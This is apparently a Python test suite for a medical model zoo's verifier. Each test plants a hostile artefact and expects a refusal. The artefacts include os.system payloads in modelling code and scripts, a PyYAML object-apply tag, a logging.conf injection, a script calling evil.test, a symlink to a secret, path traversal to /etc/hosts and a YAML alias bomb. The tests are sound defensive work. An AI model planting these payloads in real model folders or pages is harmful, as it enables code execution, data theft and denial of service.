# SPDX-License-Identifier: Apache-2.0
"""Model folders that hold more than a model, names that others have, and recipes that reach too far."""

from __future__ import annotations

import json
import os
from functools import partial

from art_medical.errors import ModelError
from art_medical.training.recipe import read_recipe
from art_medical.zoo.registry import find_card, register_model
from art_medical.zoo.verify import verify_model
from tests.zoo.hostile.stage import Stage, Victim, attack
from tests.zoo.models import write_model


def verified(stage: Stage) -> Victim:
    """Verify; the findings are the refusal."""

    def verify() -> None:
        findings = [f"{f.file} {f.message}" for f in verify_model(stage.folder) if f.severity == "error"]
        if findings:
            raise ModelError("; ".join(findings))

    return verify


@attack(
    "modelling code with a configuration that names it",
    "transformers, trust_remote_code; CVE-2026-4372",
    ModelError,
    "config.json is a file that the card does not name; remove it; modeling_tiny.py is a file that the card does",
)
def _(stage: Stage) -> Victim:
    (stage.folder / "modeling_tiny.py").write_text(f"import os\nos.system({stage.shell!r})\n")
    config = {"auto_map": {"AutoModel": "modeling_tiny.Tiny"}, "_attn_implementation_internal": "evil/kernels"}
    (stage.folder / "config.json").write_text(json.dumps(config))
    return verified(stage)


@attack(
    "logging configuration that is evaluated",
    "GHSA-wvpx-5qmp-46g3 (MONAI)",
    ModelError,
    "logging.conf is a file that the card does not name",
)
def _(stage: Stage) -> Victim:
    (stage.folder / "logging.conf").write_text(f"[handler_x]\nclass=StreamHandler\nargs=({stage.python},)\n")
    return verified(stage)


@attack("scripts that a configuration calls", "MONAI bundle, scripts/", ModelError, "scripts is a folder that the card")
def _(stage: Stage) -> Victim:
    (stage.folder / "scripts").mkdir()
    (stage.folder / "scripts" / "__init__.py").write_text(f"import os\nos.system({stage.shell!r})\n")
    return verified(stage)


@attack("link beside the weights", "CWE-59", ModelError, "notes.txt is a symbolic link; a model folder holds plain")
def _(stage: Stage) -> Victim:
    (stage.folder / "notes.txt").symlink_to(stage.secret)
    return verified(stage)


@attack("page that is a pipe", "CWE-400", ModelError, "README.md cannot be read: [Errno 22] Is no regular file")
def _(stage: Stage) -> Victim:
    os.mkfifo(stage.folder / "README.md")
    return verified(stage)


@attack(
    "page with a script in it",
    "CWE-79; cards are shown by the Hub and by reports",
    ModelError,
    "README.md is not the page that the card gives",
)
def _(stage: Stage) -> Victim:
    page = "# tiny\n\n<script>fetch('https://evil.test')</script>\n\x1b[2J"
    (stage.folder / "README.md").write_text(page)
    return verified(stage)


@attack(
    "card that names another model",
    "Unit 42, Model Namespace Reuse, 2025",
    ModelError,
    "names the model 'cxr-pneumonia', its folder 'tiny'",
)
def _(stage: Stage) -> Victim:
    stage.edit(name="cxr-pneumonia")
    stage.environment["ART_MEDICAL_ZOO"] = str(stage.root)
    return partial(find_card, "tiny")


@attack(
    "package that registers a model under the name of an own one",
    "Birsan, Dependency Confusion, 2021",
    ModelError,
    "is the model 'phantom-nodule' already; give the model another name",
)
def _(stage: Stage) -> Victim:
    return partial(register_model, write_model(stage.root / "phantom-nodule"))


@attack(
    "recipe that extends a file outside the zoo",
    "CWE-22",
    ModelError,
    "extends '../../../etc/hosts'; it may extend ../<model>/recipe.yaml",
)
def _(stage: Stage) -> Victim:
    (stage.folder / "recipe.yaml").write_text("extends: ../../../etc/hosts\n")
    return partial(read_recipe, stage.folder)


@attack(
    "recipe that builds an object",
    "CVE-2020-14343 (PyYAML)",
    ModelError,
    "could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/apply:os.system'",
)
def _(stage: Stage) -> Victim:
    (stage.folder / "recipe.yaml").write_text(f"schema: !!python/object/apply:os.system [{stage.shell!r}]\n")
    return partial(read_recipe, stage.folder)


@attack(
    "recipe of nine laughs",
    "CWE-776; CVE-2003-1564",
    ModelError,
    "recipe.yaml is no YAML: line 2 has an alias; aliases are refused",
)
def _(stage: Stage) -> Victim:
    lines = ["a0: &a0 [lol]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    (stage.folder / "recipe.yaml").write_text("\n".join(lines))
    return partial(read_recipe, stage.folder)
